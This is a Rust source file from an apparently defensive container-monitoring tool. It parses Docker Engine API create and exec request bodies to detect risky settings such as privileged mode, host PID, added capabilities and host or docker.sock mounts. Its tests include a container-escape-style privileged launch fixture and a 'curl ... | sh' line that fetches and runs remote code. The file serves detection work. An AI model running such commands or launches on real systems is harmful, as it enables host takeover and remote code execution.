//! The JSON bodies of Docker Engine API requests that launch something: `POST
//! /containers/create` and `POST /containers/{id}/exec`, and the `HostConfig` they share
//! with `docker inspect` output.
//!
//! The same body reaches crowsnest three ways: base64 inside an authorization plugin's
//! request (`authz.rs`), escaped inside dockerd's `form data:` debug line
//! (`daemon.rs`), and as `HostConfig` in `docker inspect` output (`inspect.rs`). One decoder here keeps the three from drifting apart: a
//! privileged launch reads the same whichever way it was seen.
//!
//! A create body says what was asked for, so unlike inspect output it tells an
//! overridden entrypoint from the image's own: the CLI sends `"Entrypoint": null` unless
//! `--entrypoint` was given, and `Cmd` holds only the arguments typed after the image.
//!
//! Not read, for want of a place in the model: `Env`, `HostConfig.UsernsMode` (`host`
//! turns user-namespace remapping off), `CapDrop`, `ReadonlyRootfs`, and an exec's
//! `Privileged` flag.

use std::borrow::Cow;
use std::fmt;

use serde::Deserialize;
use serde::de::{self, Deserializer, SeqAccess, Visitor};

use super::labels::KubernetesLabels;
use crate::model::ImageRef;
use crate::model::{Container, HostMount, Process, SecurityContext, Workload};
use crate::normalize::borrowed::{Str, non_empty};
use crate::normalize::process;
use crate::normalize::security::{bind, capabilities, push_mount, restart_policy, security_opts};

/// The body of `POST /containers/create`: `Config` fields at the top level, with
/// `HostConfig` beside them.
#[derive(Deserialize)]
pub(crate) struct CreateBody<'a> {
    /// The image as the user typed it.
    #[serde(rename = "Image", borrow)]
    image: Option<Str<'a>>,
    #[serde(rename = "Entrypoint", borrow)]
    entrypoint: Option<StrList<'a>>,
    #[serde(rename = "Cmd", borrow)]
    cmd: Option<StrList<'a>>,
    #[serde(rename = "User", borrow)]
    user: Option<Str<'a>>,
    #[serde(rename = "Labels", borrow)]
    labels: Option<KubernetesLabels<'a>>,
    #[serde(rename = "HostConfig", borrow)]
    host_config: Option<HostConfig<'a>>,
}

impl<'a> CreateBody<'a> {
    /// The container the body asks for, named `name` (the `name` query parameter), and
    /// the pod its Kubernetes labels name.
    pub(crate) fn into_container(
        self,
        name: Option<Cow<'a, str>>,
    ) -> (Option<Workload<'a>>, Container<'a>) {
        let (workload, k8s_name) = self.labels.unwrap_or_default().into_parts();
        let mut security = SecurityContext {
            user: non_empty(self.user),
            entrypoint: self.entrypoint.map(|l| l.0),
            command: self.cmd.map(|l| l.0),
            ..SecurityContext::default()
        };
        if let Some(hc) = self.host_config {
            hc.apply(&mut security);
        }
        let container = Container {
            name: k8s_name.or(name),
            image: non_empty(self.image).map(ImageRef::lenient),
            security,
            ..Container::default()
        };
        (workload, container)
    }
}

/// The body of `POST /containers/{id}/exec`.
#[derive(Deserialize)]
pub(crate) struct ExecBody<'a> {
    #[serde(rename = "Cmd", borrow)]
    cmd: Option<StrList<'a>>,
    #[serde(rename = "User", borrow)]
    user: Option<Str<'a>>,
    #[serde(rename = "WorkingDir", borrow)]
    working_dir: Option<Str<'a>>,
}

impl<'a> ExecBody<'a> {
    /// The process the exec will run.
    pub(crate) fn into_process(self) -> Process<'a> {
        let args = self.cmd.map(|l| l.0).unwrap_or_default();
        Process {
            user: non_empty(self.user),
            cwd: non_empty(self.working_dir),
            ..process::from_argv(args).unwrap_or_default()
        }
    }
}

/// The answer to `POST /containers/create`: the id the daemon gave the container.
#[derive(Deserialize)]
pub(crate) struct CreateResponse<'a> {
    #[serde(rename = "Id", borrow)]
    pub(crate) id: Option<Str<'a>>,
}

/// `HostConfig`, as a create body sends it and `docker inspect` shows it.
#[derive(Deserialize)]
pub(crate) struct HostConfig<'a> {
    #[serde(rename = "Privileged")]
    privileged: Option<bool>,
    #[serde(rename = "PidMode", borrow)]
    pid_mode: Option<Str<'a>>,
    #[serde(rename = "IpcMode", borrow)]
    ipc_mode: Option<Str<'a>>,
    #[serde(rename = "NetworkMode", borrow)]
    network_mode: Option<Str<'a>>,
    /// `-v src:dst[:opts]` as typed.
    #[serde(rename = "Binds", borrow)]
    binds: Option<Vec<Str<'a>>>,
    /// `--mount` specifications.
    #[serde(rename = "Mounts", borrow)]
    mounts: Option<Vec<MountSpec<'a>>>,
    /// A `strslice` in the Engine API: a string or an array.
    #[serde(rename = "CapAdd", borrow)]
    cap_add: Option<StrList<'a>>,
    #[serde(rename = "SecurityOpt", borrow)]
    security_opt: Option<Vec<Str<'a>>>,
    #[serde(rename = "Devices", borrow)]
    devices: Option<Vec<Device<'a>>>,
    #[serde(rename = "RestartPolicy", borrow)]
    restart_policy: Option<RawRestartPolicy<'a>>,
}

impl<'a> HostConfig<'a> {
    /// Write what the host config says into `security`. Mounts already there (inspect's
    /// top-level `Mounts`) are kept first; the same host and container path is not added
    /// twice.
    pub(crate) fn apply(self, security: &mut SecurityContext<'a>) {
        security.privileged = self.privileged;
        security.host_pid = self.pid_mode.map(|m| m.0 == "host");
        security.host_ipc = self.ipc_mode.map(|m| m.0 == "host");
        security.host_network = self.network_mode.map(|m| m.0 == "host");
        security.cap_add = capabilities(self.cap_add.map(|l| l.0).unwrap_or_default());
        security.security_opt = security_opts(self.security_opt.into_iter().flatten().map(|o| o.0));
        security.devices = self
            .devices
            .into_iter()
            .flatten()
            .filter_map(|d| non_empty(d.path_on_host))
            .collect();
        security.restart_policy = self
            .restart_policy
            .and_then(|r| restart_policy(r.name?.0, r.maximum_retry_count));
        for m in self.mounts.into_iter().flatten() {
            if is_bind(&m.kind)
                && let Some(host_path) = non_empty(m.source)
            {
                let mount = HostMount {
                    host_path,
                    container_path: non_empty(m.target),
                    read_only: m.read_only.unwrap_or(false),
                };
                push_mount(&mut security.host_mounts, mount);
            }
        }
        for spec in self.binds.into_iter().flatten() {
            if let Some(mount) = bind(&spec.0) {
                push_mount(&mut security.host_mounts, mount);
            }
        }
    }
}

#[derive(Deserialize)]
struct RawRestartPolicy<'a> {
    #[serde(rename = "Name", borrow)]
    name: Option<Str<'a>>,
    #[serde(rename = "MaximumRetryCount")]
    maximum_retry_count: Option<i64>,
}

/// An entry of `HostConfig.Mounts` (`--mount type=bind,source=...,target=...`).
#[derive(Deserialize)]
struct MountSpec<'a> {
    #[serde(rename = "Type", borrow)]
    kind: Option<Str<'a>>,
    #[serde(rename = "Source", borrow)]
    source: Option<Str<'a>>,
    #[serde(rename = "Target", borrow)]
    target: Option<Str<'a>>,
    #[serde(rename = "ReadOnly")]
    read_only: Option<bool>,
}

/// An entry of `HostConfig.Devices` (`--device /dev/sda:/dev/xvda:rwm`).
#[derive(Deserialize)]
struct Device<'a> {
    #[serde(rename = "PathOnHost", borrow)]
    path_on_host: Option<Str<'a>>,
}

/// Docker's `strslice.StrSlice`: a JSON array of strings, or one string that stands for
/// a one-element array (it is not split on spaces).
pub(crate) struct StrList<'a>(pub(crate) Vec<Cow<'a, str>>);

impl<'de: 'a, 'a> Deserialize<'de> for StrList<'a> {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct StrListVisitor;

        impl<'de> Visitor<'de> for StrListVisitor {
            type Value = StrList<'de>;

            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("a string or an array of strings")
            }

            fn visit_borrowed_str<E: de::Error>(self, s: &'de str) -> Result<Self::Value, E> {
                Ok(StrList(vec![Cow::Borrowed(s)]))
            }

            fn visit_str<E: de::Error>(self, s: &str) -> Result<Self::Value, E> {
                Ok(StrList(vec![Cow::Owned(s.to_owned())]))
            }

            fn visit_string<E: de::Error>(self, s: String) -> Result<Self::Value, E> {
                Ok(StrList(vec![Cow::Owned(s)]))
            }

            fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Self::Value, A::Error> {
                let mut items = Vec::with_capacity(seq.size_hint().unwrap_or(0).min(64));
                while let Some(Str(item)) = seq.next_element::<Str<'de>>()? {
                    items.push(item);
                }
                Ok(StrList(items))
            }
        }

        deserializer.deserialize_any(StrListVisitor)
    }
}

/// Whether a mount's `Type` is `bind`, the only type whose source is a host path.
pub(crate) fn is_bind(kind: &Option<Str<'_>>) -> bool {
    kind.as_ref().is_some_and(|k| k.0 == "bind")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::RestartPolicy;

    /// What `docker run -d --name agent --privileged --pid=host --cap-add cap_sys_admin
    /// --security-opt apparmor=unconfined --security-opt seccomp:unconfined --device
    /// /dev/kmsg --restart on-failure:3 -v /:/host:ro --mount
    /// type=bind,source=/var/run/docker.sock,target=/var/run/docker.sock --entrypoint
    /// /bin/sh -u 0 alpine:3.19 -c id` sends, as the CLI writes it (keys in struct order,
    /// unset fields present).
    const PRIVILEGED: &str = r#"{"Hostname":"","Domainname":"","User":"0","AttachStdin":false,"AttachStdout":false,"AttachStderr":false,"Tty":false,"OpenStdin":false,"StdinOnce":false,"Env":[],"Cmd":["-c","id"],"Image":"alpine:3.19","Volumes":{},"WorkingDir":"","Entrypoint":["/bin/sh"],"OnBuild":null,"Labels":{},"HostConfig":{"Binds":["/:/host:ro"],"ContainerIDFile":"","LogConfig":{"Type":"","Config":{}},"NetworkMode":"default","PortBindings":{},"RestartPolicy":{"Name":"on-failure","MaximumRetryCount":3},"AutoRemove":false,"VolumeDriver":"","VolumesFrom":null,"CapAdd":["cap_sys_admin"],"CapDrop":null,"CgroupnsMode":"","Dns":[],"DnsOptions":[],"DnsSearch":[],"ExtraHosts":null,"GroupAdd":null,"IpcMode":"","Cgroup":"","Links":null,"OomScoreAdj":0,"PidMode":"host","Privileged":true,"PublishAllPorts":false,"ReadonlyRootfs":false,"SecurityOpt":["apparmor=unconfined","seccomp:unconfined"],"UTSMode":"","UsernsMode":"","ShmSize":0,"Isolation":"","CpuShares":0,"Memory":0,"Devices":[{"PathOnHost":"/dev/kmsg","PathInContainer":"/dev/kmsg","CgroupPermissions":"rwm"}],"Mounts":[{"Type":"bind","Source":"/var/run/docker.sock","Target":"/var/run/docker.sock"}]},"NetworkingConfig":{"EndpointsConfig":{}}}"#;

    #[test]
    fn privileged_create_body() {
        let body: CreateBody<'_> = serde_json::from_str(PRIVILEGED).unwrap();
        let (workload, c) = body.into_container(Some("agent".into()));
        assert!(workload.is_none());
        assert_eq!(c.name.as_deref(), Some("agent"));
        assert_eq!(c.id, None);
        let image = c.image.as_ref().unwrap();
        assert_eq!(
            (&*image.registry, &*image.repository, image.tag.as_deref()),
            ("docker.io", "library/alpine", Some("3.19"))
        );
        let s = &c.security;
        assert_eq!(s.privileged, Some(true));
        assert_eq!(s.host_pid, Some(true));
        assert_eq!(s.host_ipc, Some(false));
        assert_eq!(s.host_network, Some(false), "`default` is the bridge");
        assert_eq!(s.cap_add, ["SYS_ADMIN"]);
        assert_eq!(
            s.security_opt,
            ["apparmor=unconfined", "seccomp=unconfined"]
        );
        assert_eq!(s.devices, ["/dev/kmsg"]);
        assert_eq!(s.user.as_deref(), Some("0"));
        assert_eq!(
            s.restart_policy,
            Some(RestartPolicy {
                name: "on-failure".into(),
                max_retries: Some(3)
            })
        );
        assert_eq!(s.entrypoint.as_deref(), Some(&["/bin/sh".into()][..]));
        assert_eq!(s.command.as_deref(), Some(&["-c".into(), "id".into()][..]));
        let mounts: Vec<(&str, Option<&str>, bool)> = s
            .host_mounts
            .iter()
            .map(|m| (&*m.host_path, m.container_path.as_deref(), m.read_only))
            .collect();
        assert_eq!(
            mounts,
            [
                ("/var/run/docker.sock", Some("/var/run/docker.sock"), false),
                ("/", Some("/host"), true)
            ]
        );
    }

    #[test]
    fn plain_create_body_overrides_nothing() {
        let text = r#"{"Image":"nginx:1.25","Entrypoint":null,"Cmd":null,"User":"","Labels":{"com.docker.compose.service":"web"},
            "HostConfig":{"Binds":null,"NetworkMode":"bridge","RestartPolicy":{"Name":"no","MaximumRetryCount":0},"CapAdd":null,"SecurityOpt":null,"Devices":[],"Privileged":false,"PidMode":"","IpcMode":""}}"#;
        let body: CreateBody<'_> = serde_json::from_str(text).unwrap();
        let (_, c) = body.into_container(None);
        let s = &c.security;
        assert_eq!(s.privileged, Some(false));
        assert_eq!((s.host_pid, s.host_ipc), (Some(false), Some(false)));
        assert!(s.cap_add.is_empty() && s.security_opt.is_empty() && s.devices.is_empty());
        assert!(s.host_mounts.is_empty());
        assert_eq!((&s.entrypoint, &s.command, &s.user), (&None, &None, &None));
        assert_eq!(s.restart_policy, None);
    }

    #[test]
    fn a_body_without_host_config_says_nothing_about_privileges() {
        let body: CreateBody<'_> = serde_json::from_str(r#"{"Image":"alpine"}"#).unwrap();
        let (_, c) = body.into_container(None);
        assert!(c.security.is_unknown());
        assert_eq!(c.image.unwrap().tag, None, "untagged stays untagged");
    }

    #[test]
    fn kubernetes_labels_name_the_pod() {
        let text = r#"{"Image":"pause:3.9","Labels":{"io.kubernetes.pod.name":"web-1","io.kubernetes.pod.namespace":"shop","io.kubernetes.container.name":"POD"},"HostConfig":{"NetworkMode":"host"}}"#;
        let body: CreateBody<'_> = serde_json::from_str(text).unwrap();
        let (workload, c) = body.into_container(Some("k8s_POD_web-1".into()));
        let w = workload.unwrap();
        assert_eq!((&*w.kind, w.name.as_deref()), ("Pod", Some("web-1")));
        assert_eq!(c.name.as_deref(), Some("POD"));
        assert_eq!(c.security.host_network, Some(true));
    }

    #[test]
    fn wrong_types_are_errors() {
        for text in [
            r#"{"HostConfig":{"Privileged":"true"}}"#,
            r#"{"HostConfig":{"CapAdd":[1]}}"#,
            r#"{"HostConfig":{"Devices":"/dev/sda"}}"#,
            r#"{"Cmd":{"0":"sh"}}"#,
        ] {
            assert!(
                serde_json::from_str::<CreateBody<'_>>(text).is_err(),
                "{text}"
            );
        }
    }

    #[test]
    fn exec_body() {
        let text = r#"{"User":"root","Privileged":false,"Tty":true,"ConsoleSize":[24,80],"AttachStdin":true,"AttachStderr":true,"AttachStdout":true,"Detach":false,"DetachKeys":"","Env":null,"WorkingDir":"/tmp","Cmd":["sh","-c","curl -s http://203.0.113.50/x | sh"]}"#;
        let body: ExecBody<'_> = serde_json::from_str(text).unwrap();
        let p = body.into_process();
        assert_eq!(p.executable.as_deref(), Some("sh"));
        assert_eq!(p.args.len(), 3);
        assert_eq!(
            p.command_line.as_deref(),
            Some("sh -c 'curl -s http://203.0.113.50/x | sh'")
        );
        assert_eq!(p.user.as_deref(), Some("root"));
        assert_eq!(p.cwd.as_deref(), Some("/tmp"));

        let p = serde_json::from_str::<ExecBody<'_>>(r#"{"Cmd":[]}"#)
            .unwrap()
            .into_process();
        assert_eq!((p.executable, p.command_line), (None, None));
    }
}
